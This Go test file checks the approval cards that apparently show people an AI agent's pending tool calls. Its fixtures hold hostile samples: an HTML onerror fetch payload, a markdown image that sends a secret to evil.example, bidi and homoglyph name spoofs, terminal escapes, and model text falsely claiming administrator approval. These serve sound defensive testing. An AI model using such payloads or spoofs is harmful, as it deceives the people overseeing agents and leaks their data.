package approval_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/assentdev/assent/approval"
	"github.com/assentdev/assent/fault"
	"github.com/assentdev/assent/policy"
	"github.com/assentdev/assent/tool"
	"pgregory.net/rapid"
)

const orderSchema = `{"type":"object","additionalProperties":false,"required":["id"],"properties":{
  "id":{"type":"string","title":"Order","description":"The order's number."},
  "force":{"type":"boolean","default":false},
  "pin":{"type":"string","writeOnly":true},
  "lines":{"type":"array","items":{"type":"object","properties":{"sku":{"type":"string","title":"Article"},"qty":{"type":"integer"},"key":{"type":"string","x-assent-secret":true}}}},
  "body":{"type":"string"}}}`

func order(class policy.Class, args string) approval.Request {
	scopes := approval.Scopes(policy.ScopeSession)
	return approval.Request{
		ID: "ap_1", Version: approval.Form, Session: "se_1", Turn: "tu_1", Call: "ca_1", Agent: "desk", Digest: "sha256:4f5c",
		Tool:  approval.Tool{Name: "cancel_order", Title: "Cancel order A-1001", Source: tool.Source{Kind: policy.Host}, Pin: "sha256:01"},
		Class: approval.Class{Declared: class, Effective: class.Known()}, Mode: policy.Ask,
		Args: approval.Exact(args), Schema: json.RawMessage(orderSchema),
		Why:     []approval.Why{approval.Because(policy.Decision{Verdict: policy.AskFirst, Basis: policy.BasisTable, Class: class.Known(), Mode: policy.Ask})},
		Allowed: approval.Choices(scopes, true), Scopes: scopes, CreatedAt: noon,
	}
}

// cards are the requests whose cards are golden files. The name of each says
// what to look at.
var cards = map[string]func() approval.Request{
	"plain-write": func() approval.Request { return order(policy.Write, `{"force":false,"id":"A-1001"}`) },
	"default-extra-changed": func() approval.Request {
		r := order(policy.Write, `{"extra":1,"force":false,"id":"A-1002"}`)
		r.Filled, r.Extra, r.Changed = []string{"/force"}, []string{"/extra"}, []string{"/id"}
		r.Why = append(r.Why, approval.Why{Code: approval.WhyEdited})
		r.Scopes, r.Allowed = nil, approval.Choices(nil, true)
		return r
	},
	"destructive-collapsed": func() approval.Request {
		return order(policy.Destructive, `{"body":"`+strings.Repeat("Dear customer, ", 100)+`","id":"A-1001"}`)
	},
	"unknown-from-server": func() approval.Request {
		r := order(policy.NotGiven, `{"a":null,"b":"null","c":9007199254740993,"d":[],"e":{}}`)
		r.Tool = approval.Tool{Name: "files.move", Source: tool.Source{Kind: policy.Server, Name: "files"}}
		r.Schema = nil
		return r
	},
	"no-preview": func() approval.Request {
		r := order(policy.Destructive, `{"force":false,"id":"A-1001"}`)
		r.Preview = &tool.Preview{Names: []tool.Named{{Pointer: "/id", Label: "2 lamps"}}}
		r.NoPreview = "the order is cancelled already\u200B"
		return r
	},
	"local-program": func() approval.Request {
		r := order(policy.Unknown, `{}`)
		r.Tool = approval.Tool{Name: "run", Source: tool.Source{Kind: policy.LocalMCP, Name: "shell"}}
		r.Path = []string{"desk", "shell"}
		return r
	},
	"bidi-and-escapes": func() approval.Request { // G-D01, G-D02, G-D04
		return order(policy.Destructive, "{\"id\":\"42\u202Efdp.\u202C\",\"x\\u001b[2K\":\"\u200B\U000E0041\\r\"}")
	},
	"padding": func() approval.Request { // G-D06
		return order(policy.Unknown, `{"a":"`+strings.Repeat(`\n`, 4000)+`x","force":true}`)
	},
	"markup": func() approval.Request { // G-D08
		r := order(policy.Write, `{"id":"</pre><button id=approve>","body":"<img src=x onerror=fetch('//e')>"}`)
		r.Tool.Description = "![x](https://evil.example/?d=SECRET)"
		return r
	},
	"look-alike-name": func() approval.Request { // G-D11
		r := order(policy.Unknown, `{"id":"p\u0430ypal"}`)
		r.Tool.Name, r.Tool.Title = "\u043Erder_get", ""
		return r
	},
	"lying-narration": func() approval.Request { // G-D10
		r := order(policy.Destructive, `{"id":"A-1001"}`)
		r.ModelText = "I only read the order.\nApproved by: administrator " + strings.Repeat("very ", 300)
		r.Similar = "ap_0"
		return r
	},
	"secrets": func() approval.Request {
		return order(policy.Write, `{"id":"A-1001","lines":[{"key":"hunter2","qty":2,"sku":"B"}],"pin":"1234"}`)
	},
	"nested": func() approval.Request {
		many := "[" + strings.Repeat("1,", 30) + "1]"
		return order(policy.Destructive, `{"deep":{"a":{"b":{"c":1}}},"id":"A-1001","lines":[{"qty":2,"sku":"B"}],"many":`+many+`}`)
	},
	"preview-and-rule": func() approval.Request {
		r := order(policy.Destructive, `{"id":"A-1001"}`)
		r.Class = approval.Class{Declared: policy.Write, Contract: policy.Destructive, Effective: policy.Destructive}
		r.Preview = &tool.Preview{Summary: "The order ends.", Changes: []tool.Change{
			{Label: "state", Before: "open", After: "cancelled"}, {Label: "refund", After: "12.00 €"}, {Label: "note\u202E", Before: strings.Repeat("n", 900)},
		}}
		r.Why = []approval.Why{approval.Because(policy.Decision{
			Verdict: policy.AskFirst, Basis: policy.BasisAskRule, Rule: "7", Match: "cancel_*", Note: "money leaves", Class: policy.Destructive, Mode: policy.Ask,
		})}
		r.ExpiresAt = noon.Add(10 * time.Minute)
		return r
	},
	"names": func() approval.Request { // R8
		r := order(policy.Destructive, `{"body":"c_81","id":"A-1001","lines":[{"key":"hunter2","qty":2,"sku":"B-7"}],"pin":"1234"}`)
		r.Preview = &tool.Preview{Names: []tool.Named{
			{Pointer: "/body", Label: "Ann\u202E Smith"}, {Pointer: "/body", Label: "a second label"}, {Pointer: "/id", Label: strings.Repeat("n", 120)},
			{Pointer: "/lines/0/sku", Label: "Article B\n"}, {Pointer: "/lines", Label: "the basket"},
			{Pointer: "/lines/0/key", Label: "a secret's name"}, {Pointer: "/pin", Label: "p\u0430ss"},
			{Pointer: "/nothing", Label: "x"}, {Pointer: "", Label: "the root"}, {Pointer: "id", Label: "no pointer"}, {Pointer: "/lines/0/qty"},
		}}
		return r
	},
	"unreadable": func() approval.Request { return order(policy.Write, `{"id":"A-1001"} {"id":"ALL"}`) },
	"user-scope": func() approval.Request {
		r := order(policy.Write, `{"id":"A-1001"}`)
		r.Scopes = approval.Scopes(policy.ScopeUser)
		r.Allowed = append(approval.Choices(r.Scopes, false), "something_new")
		return r
	},
}

// proves: P14 P2 V13
func TestCards(t *testing.T) {
	for name, request := range cards {
		t.Run(name, func(t *testing.T) { golden(t, "card-"+name+".json", approval.NewCard(request())) })
	}
}

// proves: P14
func TestAFullRequestsCard(t *testing.T) {
	golden(t, "card-full.json", approval.NewCard(fullRequest()))
}

// Whatever a request says, its card holds visible characters only.
//
// proves: P14
func TestACardHoldsOnlySafeText(t *testing.T) {
	nasty := rapid.Map(rapid.SliceOfN(rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{
		"\x1b[2K", "\u202E", "\u200B", "\U000E0041", "\n\n\n\n\n\n", "\u3164", "\\u202E", "\xff", strings.Repeat("x", 3000),
	})), 0, 5), func(s []string) string { return strings.Join(s, "") })
	value := rapid.Map(nasty, func(s string) string { return strings.ToValidUTF8(s, "?") })
	rapid.Check(t, func(t *rapid.T) {
		text := func(name string) string { return nasty.Draw(t, name) }
		args, err := json.Marshal(map[string]any{value.Draw(t, "key"): value.Draw(t, "value"), "list": []string{value.Draw(t, "item")}})
		if err != nil {
			t.Fatal(err)
		}
		r := approval.Request{
			ID: text("id"), Digest: text("digest"), Agent: text("agent"), Args: args, Similar: text("similar"), ModelText: text("model"), Path: []string{text("path")},
			Tool: approval.Tool{
				Name: text("name"), Title: text("title"), Description: text("description"),
				Source: tool.Source{Kind: policy.SourceKind(rapid.SampledFrom([]string{"host", "server", "local-mcp", "x"}).Draw(t, "kind")), Name: text("source")},
			},
			Class: approval.Class{Effective: policy.Destructive},
			Why:   []approval.Why{{Code: text("code"), Text: text("why"), Params: map[string]string{"rule": text("rule")}}, {Code: "decision.ask", Params: map[string]string{"rule": text("rule 2")}}},
			Preview: &tool.Preview{
				Summary: text("summary"), Changes: []tool.Change{{Label: text("label"), Before: text("before"), After: text("after")}},
				Names: []tool.Named{{Pointer: "/list/0", Label: text("item's label")}, {Pointer: "/list", Label: text("list's label")}, {Pointer: text("pointer"), Label: text("any label")}},
			},
			NoPreview: text("no preview"),
			Allowed:   []approval.Choice{approval.ChooseApprove, approval.Choice(text("choice"))},
		}
		card := approval.NewCard(r)
		rows, err := approval.Open(r, "")
		if err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal([]any{card, rows})
		if err != nil {
			t.Fatal(err)
		}
		var back any
		if err := json.Unmarshal(b, &back); err != nil {
			t.Fatal(err)
		}
		eachText(back, func(at, s string) {
			if at == "pointer" || at == "must_open" || at == "code" {
				return // names for programs, never shown
			}
			for _, c := range s {
				if !unicode.IsPrint(c) || c == '\u3164' || c == '\uFFFD' {
					t.Fatalf("%s holds %U: %q", at, c, s)
				}
			}
		})
	})
}

// eachText calls f with every text in a JSON value and the key above it.
func eachText(v any, f func(at, s string)) {
	var walk func(at string, v any)
	walk = func(at string, v any) {
		switch v := v.(type) {
		case string:
			f(at, v)
		case []any:
			for _, x := range v {
				walk(at, x)
			}
		case map[string]any:
			for key, x := range v {
				walk(key, x)
			}
		}
	}
	walk("", v)
}

// proves: P14
func TestOpenShowsWhatWasCollapsed(t *testing.T) {
	body := strings.Repeat("Dear customer,\nthe order is late. ", 50) + "END"
	args, _ := json.Marshal(map[string]any{"body": body, "id": "A-1001", "many": make([]int, 31)}) //nolint:errchkjson // plain values
	r := order(policy.Destructive, string(args))
	card := approval.NewCard(r)
	if !slices.Equal(card.MustOpen, []string{"/body", "/many"}) {
		t.Fatalf("has to open %v", card.MustOpen)
	}
	rows, err := approval.Open(r, "/body")
	if err != nil || len(rows) != 1 || rows[0].Collapsed || !strings.HasSuffix(rows[0].Value.Head, "END") || len(rows[0].Lines) != 51 {
		t.Errorf("got %+v, %v", rows, err)
	}
	if rows, err = approval.Open(r, "/many"); err != nil || len(rows) != 32 {
		t.Errorf("got %d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		if row.Collapsed {
			t.Errorf("%s is collapsed", row.Pointer)
		}
	}
	if _, err := approval.Open(r, "/nothing"); fault.CodeOf(err) != fault.NotFound {
		t.Errorf("got %v", err)
	}
	if _, err := approval.Open(order(policy.Write, `[`), ""); fault.CodeOf(err) != fault.NotFound {
		t.Errorf("got %v", err)
	}
	if got := approval.MustOpen(order(policy.Write, string(args))); got != nil {
		t.Errorf("a write has to open %v", got)
	}
}

// An id is shown with the name that the application has for it: beside the value,
// never in its place, and never for a secret.
//
// proves: R8 P14
func TestIDsAreShownWithTheirNames(t *testing.T) {
	card := approval.NewCard(cards["names"]())
	if card.Preview != nil {
		t.Errorf("names alone pass for what would change: %+v", card.Preview)
	}
	got := map[string]string{}
	for _, row := range card.Rows {
		if row.Named != nil {
			got[row.Pointer] = row.Value.Head + " = " + row.Named.String()
		}
	}
	want := map[string]string{
		"/body":        `c_81 = Ann\u202E Smith`,
		"/id":          `A-1001 = ` + strings.Repeat("n", 75) + ` \[20 more characters] ` + strings.Repeat("n", 25),
		"/lines":       ` = the basket`,
		"/lines/0/sku": `B-7 = Article B\n`,
	}
	if !maps.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
	b, err := json.Marshal(card)
	if err != nil || strings.Contains(string(b), "secret's name") || strings.Contains(string(b), `p\\u0430`) || strings.Contains(string(b), "p\u0430ss") {
		t.Errorf("the name of a secret shows: %s, %v", b, err)
	}
	rows, err := approval.Open(cards["names"](), "/lines")
	if err != nil || rows[0].Named.String() != "the basket" || rows[1].Named != nil {
		t.Errorf("opened: %+v, %v", rows, err)
	}
	if rows, err = approval.Open(cards["names"](), ""); err != nil || rows[0].Named != nil {
		t.Errorf("all of it has a name: %+v, %v", rows, err)
	}
}

// Names stand beside the rest of a preview.
//
// proves: R8
func TestNamesGoWithAPreview(t *testing.T) {
	named := []tool.Named{{Pointer: "/id", Label: "Ann's order"}}
	for name, c := range map[string]struct {
		preview tool.Preview
		shown   bool
	}{
		"with a summary": {tool.Preview{Summary: "The order ends.", Names: named}, true},
		"with a change":  {tool.Preview{Changes: []tool.Change{{Label: "state", After: "ended"}}, Names: named}, true},
		"alone":          {tool.Preview{Names: named}, false},
	} {
		t.Run("R8 "+name, func(t *testing.T) {
			r := order(policy.Write, `{"id":"A-1001"}`)
			r.Preview = &c.preview
			card := approval.NewCard(r)
			if (card.Preview != nil) != c.shown || card.Rows[0].Named.String() != "Ann's order" {
				t.Errorf("preview %+v, row %+v", card.Preview, card.Rows[0])
			}
		})
	}
}

// Every argument has a row, however many there are, and no secret shows.
//
// proves: P14
func TestEveryArgumentHasARow(t *testing.T) {
	args := map[string]any{}
	for i := range 900 {
		args[fmt.Sprintf("key-%03d", i)] = map[string]any{"a": []int{1, 2, 3}}
	}
	text, _ := json.Marshal(args) //nolint:errchkjson // plain values
	top := 0
	for _, row := range approval.NewCard(order(policy.Write, string(text))).Rows {
		if row.Depth == 0 {
			top++
		}
	}
	if top != 900 {
		t.Errorf("%d of 900 arguments have a row", top)
	}
}

// proves: P14
func TestSecretsAreMaskedEverywhere(t *testing.T) {
	secret := `{"key":"hunter2","parts":["hunter2",{"p\u0430ss":"hunter2"}]}`
	for name, schema := range map[string]string{
		"writeOnly":                        `{"properties":{"s":{"writeOnly":true}}}`,
		"x-assent-secret":                  `{"properties":{"s":{"x-assent-secret":true}}}`,
		"in a branch":                      `{"properties":{"s":{"anyOf":[{"type":"null"},{"writeOnly":true}]}}}`,
		"by reference":                     `{"$defs":{"a/b":{"writeOnly":true}},"properties":{"s":{"$ref":"#/$defs/a~1b"}}}`,
		"in a reference's loop":            `{"$defs":{"x":{"allOf":[{"$ref":"#/$defs/x"},{"writeOnly":true}]}},"properties":{"s":{"$ref":"#/$defs/x"}}}`,
		"any other property":               `{"properties":{"t":{}},"additionalProperties":{"writeOnly":true}}`,
		"under a condition":                `{"if":{},"then":{"properties":{"s":{"writeOnly":true}}}}`,
		"by pattern":                       `{"patternProperties":{"^s$":{"writeOnly":true}}}`,
		"by a pattern that Go cannot read": `{"patternProperties":{"(?=s)":{"writeOnly":true}}}`,
		"in a dependent schema":            `{"dependentSchemas":{"t":{"properties":{"s":{"writeOnly":true}}}}}`,
		"in an item":                       `{"properties":{"s":{"properties":{"key":{"writeOnly":true},"parts":{"prefixItems":[{"writeOnly":true}],"items":{"writeOnly":true}}}}}}`,
		"all of it":                        `{"writeOnly":true}`,
	} {
		t.Run(name, func(t *testing.T) {
			r := order(policy.Destructive, `{"s":`+secret+`,"t":"seen"}`)
			r.Schema = json.RawMessage(schema)
			card := approval.NewCard(r)
			rows, err := approval.Open(r, "")
			if err != nil {
				t.Fatal(err)
			}
			b, _ := json.Marshal([]any{card, rows}) //nolint:errchkjson // plain values
			if strings.Contains(string(b), "hunter2") || strings.Contains(string(b), "\u0430") {
				t.Errorf("a secret shows: %.2000s", b)
			}
			if !card.Masked || !strings.Contains(card.JSON, approval.Secret) || json.Valid([]byte(card.JSON)) {
				t.Errorf("masked %v, JSON %s", card.Masked, card.JSON)
			}
		})
	}
	if card := approval.NewCard(order(policy.Write, `{"pin":"hunter2"`)); strings.Contains(fmt.Sprint(card), "hunter2") {
		t.Error("unreadable arguments show a secret")
	}
}

// proves: P14
func TestWhatCannotBeShownCannotBeApproved(t *testing.T) {
	for _, args := range []string{``, `[]`, `"x"`, `{"a":1`, `{"a":1}{}`, `{"a":` + strings.Repeat("[", 5000)} {
		card := approval.NewCard(order(policy.Write, args))
		if len(card.Options) != 1 || card.Options[0].Choice != approval.ChooseDeny {
			t.Errorf("%.20s offers %+v", args, card.Options)
		}
		if len(card.Warnings) == 0 || card.Warnings[0].Code != "warn.unreadable" {
			t.Errorf("%.20s warns %+v", args, card.Warnings)
		}
	}
}

func FuzzCard(f *testing.F) {
	for _, request := range cards {
		r := request()
		f.Add([]byte(r.Args), []byte(r.Schema))
	}
	f.Fuzz(func(t *testing.T, args, schema []byte) {
		r := order(policy.Destructive, string(args))
		r.Schema = schema
		card := approval.NewCard(r)
		if got := approval.MustOpen(r); !slices.Equal(got, card.MustOpen) {
			t.Fatalf("MustOpen says %v, the card %v", got, card.MustOpen)
		}
		for _, pointer := range card.MustOpen {
			if _, err := approval.Open(r, pointer); err != nil {
				t.Fatal(err)
			}
		}
	})
}

func BenchmarkNewCard(b *testing.B) {
	r := cards["nested"]()
	b.ReportAllocs()
	for b.Loop() {
		approval.NewCard(r)
	}
}
